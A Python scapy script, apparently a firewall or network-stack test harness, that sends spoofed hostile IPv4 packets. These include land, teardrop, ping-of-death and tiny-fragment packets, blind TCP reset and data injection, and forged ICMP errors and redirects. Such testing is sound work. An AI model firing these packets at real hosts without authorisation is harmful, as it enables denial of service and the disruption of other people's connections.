#!/usr/bin/python3
"""Sends hostile IPv4 packets made by scapy: hostile.py LINK KIND SOURCE[:PORT] TARGET[:PORT].

LINK is a TUN (bare packets) or, with a MAC address behind it as in eth0,02:00:00:00:00:01, an Ethernet link. Every packet
has the IP identification 0xbad1, except pieces, which need one of their own. Prints how many packets were sent.
"""
import random
import sys

from scapy.all import ICMP, IP, TCP, UDP, Ether, IPOption, Raw, conf, fragment, get_if_hwaddr, raw

MARK = 0xBAD1
EACH = 50
PIECES_ID = 0x7777
SEED = 4711


def ip(peers, **more):
    return IP(src=peers.source, dst=peers.target, id=MARK, **more)


def tcp(peers, **more):
    return TCP(sport=peers.source_port, dport=peers.target_port, **more)


def udp(peers, **more):
    return UDP(sport=peers.source_port, dport=peers.target_port, **more)


def flags(peers):
    """No flag at all, all of them, and every pair that excludes itself."""
    kinds = ["", "F", "FPU", "SF", "SR", "SFR", "FR", "SFPU", "SRA", "FSRPAU"]
    return [ip(peers) / tcp(peers, flags=kind, seq=i) for kind in kinds for i in range(5)]


def land(peers):
    """From the target to itself, from the same port."""
    ports = [80, 443, 53, peers.target_port, 1]
    return [IP(src=peers.target, dst=peers.target, id=MARK) / TCP(sport=p, dport=p, flags="S", seq=i)
            for p in ports for i in range(10)]


def syn(peers):
    return [ip(peers) / tcp(peers, flags="S", seq=i) for i in range(EACH)]


def datagrams(peers):
    return [ip(peers) / udp(peers) / bytes([i]) for i in range(EACH)]


def source_route(peers):
    """Loose source route, which nobody may use today (RFC 7126 section 4.3)."""
    option = IPOption(b"\x83\x07\x04\xc6\x12\x00\x37\x00")
    return [ip(peers, options=[option]) / udp(peers) / bytes([i]) for i in range(EACH)]


def resets(peers):
    """Off the path: the sequence number is a guess."""
    guess = random.Random(SEED)
    return [ip(peers) / tcp(peers, flags="R", seq=guess.getrandbits(32)) for _ in range(20 * EACH)]


def segments(peers):
    """Off the path: data for a connection whose numbers are a guess."""
    guess = random.Random(SEED + 1)
    return [ip(peers) / tcp(peers, flags="PA", seq=guess.getrandbits(32), ack=guess.getrandbits(32)) / ("x" * 100)
            for _ in range(10 * EACH)]


def errors_of_nothing(peers):
    """Unreachable, for conversations that never were."""
    return [ip(peers) / ICMP(type=3, code=3) / IP(src=peers.target, dst=peers.source) / UDP(sport=i + 1, dport=9)
            for i in range(EACH)]


def errors_forged(peers):
    """Unreachable and a tiny MTU, for a connection that is there: its sequence numbers are a guess (RFC 5927)."""
    inner = IP(src=peers.target, dst=peers.source) / TCP(sport=peers.target_port, dport=peers.source_port, seq=1)
    kinds = [ICMP(type=3, code=1), ICMP(type=3, code=3), ICMP(type=3, code=4, nexthopmtu=68), ICMP(type=11, code=0)]
    return [ip(peers) / kind / inner for kind in kinds for _ in range(EACH // 5)]


def errors_cut(peers):
    """What they quote is cut short."""
    quoted = raw(IP(src=peers.target, dst=peers.source) / UDP(sport=1, dport=9))[:16]
    return [ip(peers) / ICMP(type=3, code=3) / Raw(quoted) for _ in range(EACH)]


def redirects(peers):
    inner = IP(src=peers.target, dst=peers.source) / UDP(sport=1, dport=9)
    return [ip(peers) / ICMP(type=5, code=1, gw=peers.source) / inner for _ in range(EACH)]


def pieces(peers, number, size=3000, step=1000):
    text = (b"piece-%04d-" % number) * (size // 11)
    whole = IP(src=peers.source, dst=peers.target, id=PIECES_ID + number) / udp(peers) / text
    return fragment(whole, fragsize=step)


def backwards(peers):
    """Sound datagrams whose pieces come last first, each twice."""
    return [piece for n in range(5) for piece in reversed(pieces(peers, n)) for _ in range(2)]


def shuffled(peers):
    """Sound datagrams whose pieces come mixed with those of others."""
    all_pieces = [piece for n in range(10, 15) for piece in pieces(peers, n)]
    random.Random(SEED).shuffle(all_pieces)
    return all_pieces


def overlapping(peers):
    """Teardrop: a second piece that lies over the first with other bytes, then the rest."""
    out = []
    for n in range(20, 30):
        first, *rest = pieces(peers, n)
        over = IP(src=peers.source, dst=peers.target, id=PIECES_ID + n, proto=17, flags="MF", frag=60) / Raw(b"E" * 800)
        out += [first, over, *rest]
    return out


def tiny(peers):
    """The ports in one piece, the flags of TCP in the next (RFC 1858 section 3)."""
    out = []
    for n in range(EACH // 2):
        segment = raw(ip(peers) / tcp(peers, flags="S"))[20:]
        head = {"src": peers.source, "dst": peers.target, "id": PIECES_ID + 100 + n, "proto": 6}
        out += [IP(flags="MF", frag=0, **head) / Raw(segment[:8]), IP(frag=1, **head) / Raw(segment[8:])]
    return out


def too_long(peers):
    """Ping of death: the last piece ends beyond 65,535."""
    return [IP(src=peers.source, dst=peers.target, id=PIECES_ID + 200 + n, proto=1, frag=8189) / Raw(b"x" * 400)
            for n in range(EACH)]


KINDS = {function.__name__.replace("_", "-"): function
         for function in (flags, land, syn, datagrams, source_route, resets, segments, errors_of_nothing, errors_forged,
                          errors_cut, redirects, backwards, shuffled, overlapping, tiny, too_long)}


class Peers:
    """Who the packets claim to be from, and whom they are for."""

    def __init__(self, source, target):
        self.source, self.source_port = self.split(source)
        self.target, self.target_port = self.split(target)

    @staticmethod
    def split(text):
        address, _, port = text.partition(":")
        return address, int(port or 9)


def send(link, packets):
    name, _, mac = link.partition(",")
    if mac:
        socket = conf.L2socket(iface=name)
        packets = [Ether(src=get_if_hwaddr(name), dst=mac) / packet for packet in packets]
    else:
        socket = conf.L3socket(iface=name)
    for packet in packets:
        socket.send(packet)


def main():
    link, kind, source, target = sys.argv[1:]
    conf.verb = 0
    conf.checkIPaddr = False
    packets = KINDS[kind](Peers(source, target))
    send(link, packets)
    print(f"sent {len(packets)}")


main()
